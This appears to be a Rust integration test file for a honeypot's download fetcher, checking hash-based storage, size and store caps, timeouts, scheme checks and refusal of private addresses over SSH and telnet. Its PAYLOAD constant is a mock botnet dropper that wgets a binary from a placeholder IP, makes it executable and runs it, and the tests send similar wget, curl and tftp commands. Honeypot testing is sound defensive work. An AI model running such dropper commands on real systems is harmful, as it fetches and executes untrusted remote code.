//! The opt-in download fetcher through SSH `exec` with the real OpenSSH client and through the
//! real telnet client: a local HTTP server's payload stored under its sha256, the size and
//! store caps, the timeout, other schemes, and private addresses refused unless allowed.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use apiary_event::{Event, Kind};
use apiary_pot::{Limits, ServiceConfig};
use sha2::{Digest, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::ssh::{have, run, ssh_args};
use crate::support::{TestPot, service, start};

const PAYLOAD: &[u8] =
    b"#!/bin/sh\ncd /tmp; wget http://203.0.113.9/bins/x86; chmod +x x86; ./x86 ssh\n";

/// A second payload: either fits a 100-byte store next to nothing else, not both.
const SECOND: &[u8] = b"#!/bin/sh\necho a second stage that does not fit\n";

/// A tiny HTTP/1.1 server on 127.0.0.1:0: `/x.sh` is the payload, `/big` streams 1 MiB
/// without a Content-Length, `/hang` reads the request and never answers, `/gone` is a 404.
/// Counts the connections it accepted.
async fn http_server() -> (u16, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&hits);
    tokio::spawn(async move {
        loop {
            let Ok((mut s, _)) = listener.accept().await else { return };
            counter.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                let mut req = Vec::new();
                let mut buf = [0u8; 1024];
                while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => req.extend_from_slice(&buf[..n]),
                    }
                }
                let line = String::from_utf8_lossy(&req).lines().next().unwrap_or("").to_owned();
                let path = line.split(' ').nth(1).unwrap_or("");
                match path {
                    "/x.sh" => {
                        let head = format!(
                            "HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            PAYLOAD.len()
                        );
                        let _ = s.write_all(head.as_bytes()).await;
                        let _ = s.write_all(PAYLOAD).await;
                    }
                    "/big" => {
                        let _ = s.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n").await;
                        let chunk = vec![b'A'; 64 * 1024];
                        for _ in 0..16 {
                            if s.write_all(&chunk).await.is_err() {
                                return;
                            }
                        }
                    }
                    "/y.sh" => {
                        let head = format!(
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            SECOND.len()
                        );
                        let _ = s.write_all(head.as_bytes()).await;
                        let _ = s.write_all(SECOND).await;
                    }
                    "/hang" => {
                        tokio::time::sleep(Duration::from_secs(120)).await;
                    }
                    _ => {
                        let _ = s
                            .write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                            .await;
                    }
                }
                let _ = s.shutdown().await;
            });
        }
    });
    (port, hits)
}

fn ssh_fetching(dir: &std::path::Path, private: bool) -> ServiceConfig {
    let mut s = service("SSH", "ssh", &["tcp:0"]);
    let opts = format!(
        r#"
        host_key_dir = "{0}/keys"
        host_keys = ["ed25519"]
        accept = "any"
        auth_delay = "10ms"
        fetch = true
        fetch_dir = "{0}/downloads"
        fetch_max_bytes = 100000
        fetch_timeout = "3s"
        fetch_private = {private}
        "#,
        dir.display()
    );
    s.options = toml::from_str(&opts).unwrap();
    s
}

/// Waits (generously: fetches run in the background) until `count` events of the fetcher's
/// two kinds have been emitted.
async fn outcomes(pot: &TestPot, count: usize) -> Vec<Event> {
    for _ in 0..600 {
        let done: Vec<Event> = pot
            .events
            .snapshot()
            .into_iter()
            .filter(|e| matches!(e.kind.as_str(), "download.fetched" | "download.failed"))
            .collect();
        if done.len() >= count {
            return done;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("timed out waiting for {count} fetch outcomes: {:#?}", pot.events.snapshot());
}

fn by_url<'a>(events: &'a [Event], url: &str) -> &'a Event {
    events
        .iter()
        .find(|e| e.download.as_ref().is_some_and(|d| d.url == url))
        .unwrap_or_else(|| panic!("no outcome for {url}: {events:#?}"))
}

fn start_ssh(dir: &std::path::Path, private: bool) -> (TestPot, u16) {
    let pot = start(&[ssh_fetching(dir, private)], Limits::default(), "127.0.0.1");
    let port = pot.handle.addr("SSH", apiary_event::Transport::Tcp).unwrap().port();
    (pot, port)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fetched_stored_by_hash_cut_timed_out_and_other_schemes() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (http, _) = http_server().await;
    let (pot, port) = start_ssh(dir.path(), true);
    let base = format!("http://127.0.0.1:{http}");
    let cmd = format!(
        "wget {base}/x.sh; curl -O {base}/big; wget {base}/hang; wget {base}/gone; busybox tftp -g -r bins.sh 127.0.0.1; wget {base}/y.sh; curl -O {base}/y.sh"
    );
    let o = run(ssh_args(port, "pw", &["root@127.0.0.1", &cmd]), None).await;
    // The fake shell's answer is what it was before the fetcher: wget still "fails".
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains(&format!("Connecting to 127.0.0.1:{http}... failed")), "{err}");
    let done = outcomes(&pot, 7).await;

    let ok = by_url(&done, &format!("{base}/x.sh"));
    assert_eq!(ok.kind, Kind::new("download.fetched"));
    let sha = format!("{:x}", Sha256::digest(PAYLOAD));
    let d = ok.download.as_ref().unwrap();
    assert_eq!(d.sha256.as_deref(), Some(sha.as_str()));
    assert_eq!(d.size, Some(PAYLOAD.len() as u64));
    assert_eq!(ok.fields["status"], 200);
    assert_eq!(ok.fields["duplicate"], false);
    let stored = dir.path().join("downloads").join(&sha);
    assert_eq!(ok.fields["path"].as_str().unwrap(), stored.display().to_string());
    assert_eq!(std::fs::read(&stored).unwrap(), PAYLOAD);

    let big = by_url(&done, &format!("{base}/big"));
    assert_eq!(big.kind, Kind::new("download.failed"));
    assert_eq!(big.fields["reason"], "too_large");
    assert!(big.fields["bytes"].as_u64().unwrap() > 100_000, "{big:?}");
    let hang = by_url(&done, &format!("{base}/hang"));
    assert_eq!(hang.fields["reason"], "timeout", "{hang:?}");
    let gone = by_url(&done, &format!("{base}/gone"));
    assert_eq!(gone.fields["reason"], "http_status");
    assert_eq!(gone.fields["status"], 404);
    let tftp = by_url(&done, "tftp://127.0.0.1/bins.sh");
    assert_eq!(tftp.fields["reason"], "scheme");

    // The same payload fetched twice at once is stored once, the second seen as a duplicate.
    let second = format!("{:x}", Sha256::digest(SECOND));
    let mut dups: Vec<bool> = done
        .iter()
        .filter(|e| e.download.as_ref().unwrap().url.ends_with("/y.sh"))
        .map(|e| {
            assert_eq!(e.download.as_ref().unwrap().sha256.as_deref(), Some(second.as_str()));
            e.fields["duplicate"].as_bool().unwrap()
        })
        .collect();
    dups.sort_unstable();
    assert_eq!(dups, [false, true]);

    // Only the payloads were kept: no partial file of the cut or timed-out bodies.
    let mut names: Vec<String> = std::fs::read_dir(dir.path().join("downloads"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort_unstable();
    let mut want = vec![sha.clone(), second];
    want.sort_unstable();
    assert_eq!(names, want);

    // The same payload again is recorded as a duplicate, stored once.
    let again =
        run(ssh_args(port, "pw", &["root@127.0.0.1", &format!("wget {base}/x.sh")]), None).await;
    assert!(again.status.code().is_some(), "{again:?}");
    let done = outcomes(&pot, 8).await;
    let dup = done.last().unwrap();
    assert_eq!(dup.kind, Kind::new("download.fetched"));
    assert_eq!(dup.fields["duplicate"], true);
    assert_eq!(std::fs::read_dir(dir.path().join("downloads")).unwrap().count(), 2);

    // Each outcome belongs to the session whose command asked for it.
    let events = pot.finish().await;
    let attempt = events
        .iter()
        .find(|e| {
            e.kind == Kind::DOWNLOAD_ATTEMPT && e.download.as_ref().unwrap().url.ends_with("/x.sh")
        })
        .unwrap();
    assert!(attempt.session.is_some());
    assert_eq!(ok.session, attempt.session);
    assert_ne!(dup.session, attempt.session);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn private_addresses_are_refused_by_default() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (http, hits) = http_server().await;
    let (pot, port) = start_ssh(dir.path(), false);
    // An IP literal, and a name whose resolved address is loopback.
    let literal = format!("http://127.0.0.1:{http}/x.sh");
    let named = format!("http://localhost:{http}/x.sh");
    let o = run(
        ssh_args(port, "pw", &["root@127.0.0.1", &format!("wget {literal}; curl -O {named}")]),
        None,
    )
    .await;
    assert!(o.status.code().is_some(), "{o:?}");
    let done = outcomes(&pot, 2).await;
    for url in [&literal, &named] {
        let e = by_url(&done, url);
        assert_eq!(e.kind, Kind::new("download.failed"));
        assert_eq!(e.fields["reason"], "private_address", "{e:?}");
    }
    assert_eq!(hits.load(Ordering::SeqCst), 0, "the server was never contacted");
    assert_eq!(std::fs::read_dir(dir.path().join("downloads")).unwrap().count(), 0);
    pot.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn telnet_fetches_too_and_a_full_store_keeps_nothing_new() {
    let pexpect = std::process::Command::new("/usr/bin/python3")
        .args(["-c", "import pexpect"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !have(&["telnet"]) {
        return;
    }
    if !pexpect {
        assert!(std::env::var("APIARY_REQUIRE_SERVICES").as_deref() != Ok("1"), "python3-pexpect");
        return;
    }
    assert!(PAYLOAD.len() <= 100 && SECOND.len() <= 100 && PAYLOAD.len() + SECOND.len() > 100);
    let dir = tempfile::tempdir().unwrap();
    let (http, _) = http_server().await;
    let mut svc = service("Telnet", "telnet", &["tcp:0"]);
    svc.options = toml::from_str(&format!(
        r#"
        fetch = true
        fetch_dir = "{}/downloads"
        fetch_store_bytes = 100
        fetch_private = true
        "#,
        dir.path().display()
    ))
    .unwrap();
    let pot = start(&[svc], Limits::default(), "127.0.0.1");
    let port = pot.handle.addr("Telnet", apiary_event::Transport::Tcp).unwrap().port();
    let py = format!(
        "import pexpect\n\
         c = pexpect.spawn('telnet 127.0.0.1 {port}', timeout=20)\n\
         c.expect('login: ')\n\
         c.sendline('root')\n\
         c.expect('Password: ')\n\
         c.sendline('admin')\n\
         c.expect('# ')\n\
         c.sendline('cd /tmp; wget http://127.0.0.1:{http}/x.sh; wget http://127.0.0.1:{http}/y.sh')\n\
         c.expect('# ')\n\
         c.sendline('exit')\n\
         c.expect(pexpect.EOF)\n\
         print('done')\n"
    );
    let o = run(vec!["/usr/bin/python3".into(), "-c".into(), py], None).await;
    assert!(String::from_utf8_lossy(&o.stdout).trim_end().ends_with("done"), "{o:?}");
    let done = outcomes(&pot, 2).await;
    // The two fetches run at once: whichever finishes first is stored, the other finds the
    // store full.
    let stored: Vec<&Event> =
        done.iter().filter(|e| e.kind.as_str() == "download.fetched").collect();
    let full: Vec<&Event> = done.iter().filter(|e| e.kind.as_str() == "download.failed").collect();
    assert_eq!((stored.len(), full.len()), (1, 1), "{done:#?}");
    assert_eq!(full[0].fields["reason"], "store_full", "{done:#?}");
    let sha = stored[0].download.as_ref().unwrap().sha256.clone().unwrap();
    let body = std::fs::read(dir.path().join("downloads").join(&sha)).unwrap();
    assert!(body == PAYLOAD || body == SECOND);
    assert_eq!(format!("{:x}", Sha256::digest(&body)), sha);
    assert_eq!(std::fs::read_dir(dir.path().join("downloads")).unwrap().count(), 1);
    let events = pot.finish().await;
    let session = events.iter().find(|e| e.kind == Kind::DOWNLOAD_ATTEMPT).unwrap().session;
    assert!(done.iter().all(|e| e.session == session));
}

#[test]
fn config_check_rejects_bad_fetch_options() {
    let dir = tempfile::tempdir().unwrap();
    let check = |plugin: &str, extra: &str| {
        let mut s = service("S", plugin, &["tcp:0"]);
        s.options = toml::from_str(&format!(
            "host_key_dir = \"{0}/keys\"\nhost_keys = [\"ed25519\"]\nfetch_dir = \"{0}/dl\"\n{extra}",
            dir.path().display()
        ))
        .unwrap();
        if plugin == "telnet" {
            s.options.remove("host_key_dir");
            s.options.remove("host_keys");
        }
        apiary_pot::check_services(&[s]).iter().map(ToString::to_string).collect::<Vec<_>>()
    };
    assert_eq!(check("ssh", "fetch = true"), Vec::<String>::new());
    assert!(dir.path().join("dl").is_dir(), "the store is created like the host keys");
    let typo = check("telnet", "fetch = true\nfetch_privat = true");
    assert!(typo.iter().any(|e| e.contains("fetch_privat")), "{typo:?}");
    let zero = check("ssh", "fetch = true\nfetch_max_bytes = 0");
    assert!(zero.iter().any(|e| e.contains("fetch_max_bytes")), "{zero:?}");
    let bad = check("telnet", "fetch = true\nfetch_timeout = \"soon\"");
    assert_eq!(bad.len(), 1, "{bad:?}");
}
